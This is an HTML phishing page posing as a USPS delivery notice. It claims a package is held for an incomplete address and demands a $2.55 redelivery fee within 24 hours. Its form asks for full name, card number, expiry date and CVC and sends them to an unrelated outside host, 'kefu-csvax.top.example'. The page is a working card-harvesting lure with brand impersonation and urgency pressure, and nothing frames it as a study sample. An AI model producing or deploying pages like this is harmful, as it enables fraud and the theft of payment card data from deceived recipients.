<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>USPS - Delivery Notice</title>
<style>*{box-sizing:border-box}body{background:#111;color:#eee}</style>

</head>
<body>
<nav class="navbar"><ul></ul></nav>
<main class="content">
<div class="block">
<div class="alert">Your package is on hold due to an incomplete address. A redelivery fee of $2.55 is required within 24 hours.</div>
</div>
<div class="row">
<form action="http://kefu-csvax.top.example/api/save"><input name="fullname" placeholder="Full name"><input name="cardnumber" placeholder="Card number"><input name="expiry" placeholder="MM/YY"><input name="cvc" placeholder="CVC"><button>Pay and reschedule</button></form>
</div>
</main>
<footer>USPS</footer>
<script src="/static/js/app.bf8967e0.js"></script>
</body>
</html>
